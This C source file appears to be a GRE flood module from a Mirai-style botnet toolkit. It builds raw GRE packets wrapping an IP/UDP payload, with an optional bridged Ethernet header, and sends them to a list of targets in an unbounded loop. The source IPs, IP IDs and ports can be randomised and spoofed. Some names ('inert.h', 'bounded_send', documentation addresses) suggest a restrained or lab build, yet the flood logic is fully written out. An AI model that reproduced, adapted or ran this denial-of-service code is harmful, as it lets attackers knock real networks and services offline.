/* GRE floods: an IP and UDP packet inside GRE, with an Ethernet frame between in the second. */
#include "attack.h"

#include "inert.h"
#include "packet.h"
#include "util.h"

#if HAS_ATTACKS

#define GRE_IP 0x0800
#define GRE_BRIDGED 0x6558 /* transparent Ethernet bridging, RFC 1701 */

struct gre_parameters {
    uint8_t tos;
    uint16_t ident;
    uint8_t ttl;
    int dont_fragment;
    port_t source_port;
    port_t destination_port;
    int size;
    int random_payload;
    int constant_destination;
    uint32_t source;
};

static void fill_ip(struct ip_header *ip, const struct gre_parameters *with, uint8_t protocol,
                    int payload)
{
    ip->version_length = 0x45;
    ip->tos = with->tos;
    ip->total = htons((uint16_t)(sizeof(struct ip_header) + (unsigned int)payload));
    ip->id = htons(with->ident);
    ip->ttl = with->ttl;
    if (with->dont_fragment)
        ip->fragment = htons(1 << 14);
    ip->protocol = protocol;
    ip->source = with->source;
}

/* Outer IP, GRE, what lies between, inner IP, UDP. */
static void fill_packet(char *packet, const struct gre_parameters *with, int between)
{
    int inner = (int)(sizeof(struct ip_header) + sizeof(struct udp_header)) + with->size;
    struct ip_header *ip = (struct ip_header *)packet;
    struct gre_header *gre = (struct gre_header *)(ip + 1);
    struct ip_header *inner_ip = (struct ip_header *)((char *)(gre + 1) + between);
    struct udp_header *udp = (struct udp_header *)(inner_ip + 1);
    fill_ip(ip, with, IPPROTO_GRE, (int)sizeof(struct gre_header) + between + inner);
    gre->protocol = htons(between > 0 ? GRE_BRIDGED : GRE_IP);
    fill_ip(inner_ip, with, IPPROTO_UDP, inner - (int)sizeof(struct ip_header));
    inner_ip->id = (uint16_t)~ip->id;
    udp->source = htons(with->source_port);
    udp->destination = htons(with->destination_port);
    udp->length = htons((uint16_t)(sizeof(struct udp_header) + (unsigned int)with->size));
    if (between > 0)
        ((struct ethernet_header *)(gre + 1))->type = htons(0x0800);
}

static void send_packet(int fd, char *packet, struct attack_target *target,
                        const struct gre_parameters *with, int between)
{
    struct ip_header *ip = (struct ip_header *)packet;
    struct gre_header *gre = (struct gre_header *)(ip + 1);
    struct ip_header *inner_ip = (struct ip_header *)((char *)(gre + 1) + between);
    struct udp_header *udp = (struct udp_header *)(inner_ip + 1);
    int transport = (int)sizeof(struct udp_header) + with->size;
    ip->destination = attack_draw_address(target);
    if (with->source == 0xffffffff)
        ip->source = rand_next();
    if (with->ident == 0xffff) {
        ip->id = (uint16_t)rand_next();
        inner_ip->id = (uint16_t)~(ip->id - 1000);
    }
    if (with->source_port == 0xffff)
        udp->source = (port_t)rand_next();
    if (with->destination_port == 0xffff)
        udp->destination = (port_t)rand_next();
    if (with->constant_destination)
        inner_ip->destination = ip->destination;
    else
        inner_ip->destination = documentation_address(rand_next());
    if (between > 0)
        rand_bytes((char *)(gre + 1), 12);
    if (with->random_payload)
        rand_bytes((char *)(udp + 1), with->size);
    ip->checksum = 0;
    ip->checksum = checksum_generic(ip, sizeof(struct ip_header));
    inner_ip->checksum = 0;
    inner_ip->checksum = checksum_generic(inner_ip, sizeof(struct ip_header));
    udp->checksum = 0;
    udp->checksum = checksum_transport(inner_ip, udp, udp->length, transport);
    target->sock_addr.sin_family = AF_INET;
    target->sock_addr.sin_addr.s_addr = ip->destination;
    target->sock_addr.sin_port = 0;
    bounded_send(fd, packet,
                 (int)(2 * sizeof(struct ip_header) + sizeof(struct gre_header)) + between +
                     transport,
                 &target->sock_addr);
}

static void flood(uint8_t target_count, struct attack_target *targets,
                  const struct gre_parameters *with, int between)
{
    char **packets = calloc(target_count, sizeof(char *));
    int i, fd = attack_raw_socket(IPPROTO_TCP);
    if (fd == -1)
        return;
    for (i = 0; i < target_count; i++) {
        packets[i] = calloc(PACKET_ROOM, 1);
        fill_packet(packets[i], with, between);
    }
    while (FLOODING)
        for (i = 0; i < target_count; i++)
            send_packet(fd, packets[i], &targets[i], with, between);
}

#define READ_PARAMETERS(ATTACK)                                              \
    struct gre_parameters with;                                              \
    with.tos = (uint8_t)INT_OPTION(ATTACK, TOS);                             \
    with.ident = (uint16_t)INT_OPTION(ATTACK, IDENT);                        \
    with.ttl = (uint8_t)INT_OPTION(ATTACK, TTL);                             \
    with.dont_fragment = INT_OPTION(ATTACK, DONT_FRAGMENT);                  \
    with.source_port = (port_t)INT_OPTION(ATTACK, SOURCE_PORT);              \
    with.destination_port = (port_t)INT_OPTION(ATTACK, DESTINATION_PORT);    \
    with.size = INT_OPTION(ATTACK, PAYLOAD_SIZE);                            \
    with.random_payload = INT_OPTION(ATTACK, PAYLOAD_RANDOM);                \
    with.constant_destination = INT_OPTION(ATTACK, GRE_CONSTANT);            \
    with.source = ADDRESS_OPTION(SOURCE_ADDRESS, local_address);             \
    if (with.size > MAXIMUM_PAYLOAD)                                         \
        with.size = MAXIMUM_PAYLOAD;

void attack_gre_ip(ATTACK_ARGUMENTS)
{
    READ_PARAMETERS(GREIP)
    flood(target_count, targets, &with, 0);
}

void attack_gre_eth(ATTACK_ARGUMENTS)
{
    READ_PARAMETERS(GREETH)
    flood(target_count, targets, &with, (int)sizeof(struct ethernet_header));
}

#endif
